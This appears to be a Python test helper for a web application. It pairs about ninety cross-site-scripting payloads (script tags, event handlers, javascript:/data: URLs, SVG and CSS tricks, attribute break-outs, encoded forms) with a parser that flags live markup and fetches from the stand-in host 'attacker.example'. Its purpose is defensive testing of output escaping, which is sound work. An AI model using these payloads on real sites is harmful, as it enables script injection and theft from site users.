"""Script-injection vectors (the OWASP filter-evasion kinds) and a checker for live markup.

Every vector either calls ``alert``/``confirm``/``prompt`` (a dialog in a browser) or asks
for something from ``ATTACKER`` (a request a browser test catches), so a vector that comes
alive in a page is seen either way. ``live_markup(html)`` lists what in an HTML document
would run or fetch: event-handler attributes, script-capable elements, script and data URLs,
attacker URLs in any URL-bearing attribute or style; the tests run it over every page and
every HTML-typed feed field.
"""

import json
import re
from html.parser import HTMLParser

ATTACKER = "attacker.example"
_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

VECTORS: list[str] = [
    # Script elements, and ways of closing what they stand in
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://attacker.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    '"><script>alert(3)</script>',
    "'><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "<!--<script>alert(8)//-->",
    "--><script>alert(9)</script>",
    "]]><script>alert(10)</script>",
    "</SCRIPT ><img src=x onerror=alert(11)>",
    "<script/src=//attacker.example/s.js></script>",
    "<script>/*</script><img src=x onerror=alert(12)>*/</script>",
    # Event handlers
    "<img src=x onerror=alert(13)>",
    '<img src=x onerror="alert(14)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=15>",
    "<svg onload=alert(16)>",
    "<svg/onload=alert(17)>",
    "<body onload=alert(18)>",
    "<input autofocus onfocus=alert(19)>",
    "<details open ontoggle=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<audio src=x onerror=alert(22)>",
    "<iframe onload=alert(23)></iframe>",
    "<marquee onstart=alert(24)>x</marquee>",
    "<select autofocus onfocus=alert(25)></select>",
    "<textarea autofocus onfocus=alert(26)></textarea>",
    "<object data=x onerror=alert(27)></object>",
    "<style onload=alert(28)></style>",
    '<img """><SCRIPT>alert(29)</SCRIPT>">',
    '<IMG SRC=# onmouseover="alert(30)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(31)>",
    "<img/src=x/onerror=alert(32)>",
    "<img src=x onerror\t=alert(33)>",
    "<IMG SRC=x oNeRrOr=alert(34)>",
    "<img src=x onerror=alert(35)//",
    "<<img src=x onerror=alert(36)>>",
    "<img src=x onerror=alert&#40;37&#41;>",
    "<b onmouseover=alert(38)>bold</b>",
    "<a onclick=alert(39)>link</a>",
    "<div onpointerenter=alert(40) style=position:fixed;inset:0>x</div>",
    "<image src=x onerror=alert(41)>",
    "<x contenteditable onblur=alert(42)>x</x>",
    "<body onpageshow=alert(43)>",
    "<img src=x onerror=window['al'+'ert'](44)>",
    "<img src=x onerror=top[`al`+`ert`](45)>",
    "<img src=x onerror=confirm(46)>",
    "<img src=x onerror=prompt(47)>",
    # Breaking out of attributes
    '" onmouseover="alert(48)',
    "' onfocus='alert(49)' autofocus='",
    '" autofocus onfocus="alert(50)',
    '"><img src=x onerror=alert(51)>',
    "'><img src=x onerror=alert(52)>",
    "`><img src=x onerror=alert(53)>",
    'x" style="background:url(//attacker.example/attr.png)',
    '"><link rel=stylesheet href=//attacker.example/break.css>',
    # javascript: and data: URLs, with tabs, newlines and entities
    '<a href="javascript:alert(54)">x</a>',
    '<a href="jav&#x09;ascript:alert(55)">x</a>',
    '<a href="jav\tascript:alert(56)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(57)">x</a>',
    '<a href=" &#14; javascript:alert(58)">x</a>',
    '<iframe src="javascript:alert(59)"></iframe>',
    '<iframe src="data:text/html,<script>alert(60)</script>"></iframe>',
    f'<object data="data:text/html;base64,{_B64}"></object>',
    f'<embed src="data:text/html;base64,{_B64}">',
    '<form action="javascript:alert(61)"><input type=submit></form>',
    '<math><a xlink:href="javascript:alert(62)">x</a></math>',
    "<button formaction=javascript:alert(63)>x</button>",
    f'<a href="data:text/html;base64,{_B64}">x</a>',
    '<IMG SRC="jav&#x0A;ascript:alert(64);">',
    "<IMG SRC=javascript:alert('XSS')>",
    '<iframe srcdoc="<script>alert(65)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(66)&gt;"></iframe>',
    '<a href="vbscript:msgbox(67)">x</a>',
    "[x](javascript:alert(68))",
    # SVG
    "<svg><script>alert(69)</script></svg>",
    "<svg><animate onbegin=alert(70) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(71) /><text>X</text></a></svg>",
    '<svg><image href="http://attacker.example/svg.png"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(72)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(73)>",
    "<svg><style>@import url(//attacker.example/svg.css)</style></svg>",
    "<svg><use href=//attacker.example/use.svg#x /></svg>",
    # srcset, posters, other ways of fetching
    '<img srcset="http://attacker.example/a.png 1x">',
    '<picture><source srcset="//attacker.example/p.png"><img alt=p></picture>',
    '<img src=x srcset="x 1x" onerror=alert(74)>',
    "<video poster=//attacker.example/poster.png></video>",
    "<input type=image src=//attacker.example/i.png>",
    "<link rel=stylesheet href=//attacker.example/s.css>",
    "<link rel=prefetch href=//attacker.example/prefetch>",
    '<img src="http://attacker.example/pixel.gif">',
    "<img src=//attacker.example/pixel2.gif>",
    '<img src="https://attacker.example/pixel3.gif" alt="">',
    '<table background="//attacker.example/t.png"><tr><td>x</td></tr></table>',
    '<body background="//attacker.example/b.png">',
    # CSS
    '<div style="background-image:url(//attacker.example/bg.png)">x</div>',
    "<span style=\"background:url('http://attacker.example/bg2.png')\">x</span>",
    "<style>@import 'http://attacker.example/imp.css';</style>",
    "<style>body{background:url(//attacker.example/style.png)}</style>",
    '<div style="width:expression(alert(75))">x</div>',
    '<div style="behavior:url(//attacker.example/x.htc)">x</div>',
    '<STYLE>li {list-style-image: url("javascript:alert(76)");}</STYLE><UL><LI>x</UL>',
    "<style>@font-face{font-family:x;src:url(//attacker.example/f.woff)}*{font-family:x}</style>",
    '<div style="background:url(&quot;//attacker.example/q.png&quot;)">x</div>',
    '<div style="background:u&#114;l(//attacker.example/ent.png)">x</div>',
    # <base> and <meta refresh>
    '<base href="http://attacker.example/">',
    "<base href=//attacker.example/ target=_blank>",
    '<meta http-equiv="refresh" content="0;url=http://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(77)">',
    f'<meta http-equiv="refresh" content="0; url=data:text/html;base64,{_B64}">',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
    # Frames, objects, plugins
    "<iframe src=//attacker.example/frame></iframe>",
    "<object data=//attacker.example/obj></object>",
    "<embed src=//attacker.example/embed>",
    "<frameset><frame src=javascript:alert(78)></frameset>",
    "<template><img src=x onerror=alert(79)></template><img src=x onerror=alert(80)>",
    # Encodings that must stay text (and must not be decoded twice)
    "&lt;img src=x onerror=alert(81)&gt;",
    "&#60;img src=x onerror=alert(82)&#62;",
    "&amp;lt;script&amp;gt;alert(83)&amp;lt;/script&amp;gt;",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(84)%3E",
    "\\x3cimg src=x onerror=alert(85)\\x3e",
    "\\u003cimg src=x onerror=alert(86)\\u003e",
    "＜img src=x onerror=alert(87)＞",
    # JSON-LD and comments
    "</script><!--<script>alert(88)</script>",
    '"}</script><script>alert(89)</script>',
    "<!--",
    "\u2028\u2029<img src=x onerror=alert(90)>",
    # Template syntax, for good measure
    "{{ 7*7 }}{% debug %}${alert(91)}",
]

# Attributes that carry a URL a browser may fetch or follow.
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "xlink:href",
    "srcdoc",
    "codebase",
    "cite",
    "lowsrc",
    "dynsrc",
    "ping",
}
# Elements a text field can never legitimately produce on our pages.
# (Inline SVG is fine, as the admin's icons are: its scripts, handlers, URLs and animations of
# them are caught one by one.)
LIVE_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


def _dangerous_url(value: str) -> bool:
    squeezed = _INVISIBLE.sub("", value)
    return bool(_SCHEME.match(squeezed)) or ATTACKER in value


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script_type = None
        self._in_style = False
        self._script_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): value or "" for name, value in attrs}
        for name, value in attributes.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            elif name in URL_ATTRIBUTES and _dangerous_url(value):
                self.found.append(f"<{tag} {name}={value!r}>")
            elif name in {"values", "to", "from", "by"} and _dangerous_url(value):
                self.found.append(f"<{tag} {name}={value!r}> (an animated URL)")
            elif name == "attributename" and value.lower().startswith("on"):
                self.found.append(f"<{tag} attributeName={value!r}>")
            elif name == "style" and (ATTACKER in value or "expression(" in value.lower()):
                self.found.append(f"<{tag} style={value!r}>")
        if tag in LIVE_ELEMENTS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        if tag == "link" and ATTACKER in attributes.get("href", ""):
            self.found.append("<link> to the attacker")
        if tag == "script":
            self._script_type = attributes.get("type", "")
            self._script_text = []
            if "src" in attributes and ATTACKER in attributes["src"]:
                self.found.append("<script src> from the attacker")
        if tag == "style":
            self._in_style = True

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        if self._script_type is not None:
            self._script_text.append(data)
        if self._in_style and (ATTACKER in data or "javascript:" in data.lower()):
            self.found.append("<style> fetching from the attacker or running script")

    def handle_endtag(self, tag):
        if tag == "script" and self._script_type is not None:
            text = "".join(self._script_text)
            if self._script_type == "application/ld+json":
                try:
                    json.loads(text)
                except ValueError:
                    self.found.append("a JSON-LD script element broken open")
            elif re.search(r"alert|confirm|prompt|" + re.escape(ATTACKER), text):
                self.found.append(f"<script>{text[:60]}</script>")
            self._script_type = None
        if tag == "style":
            self._in_style = False


def live_markup(html: str) -> list[str]:
    """What in ``html`` would run a script or fetch from the attacker, as short descriptions."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found


def packed(vectors: list[str], limit: int) -> str:
    """As many of ``vectors`` as fit in ``limit`` characters, joined by spaces (the first one
    cut to fit if even it does not)."""
    out = ""
    for vector in vectors:
        candidate = f"{out} {vector}" if out else vector
        if len(candidate) > limit:
            break
        out = candidate
    return out or vectors[0][:limit]
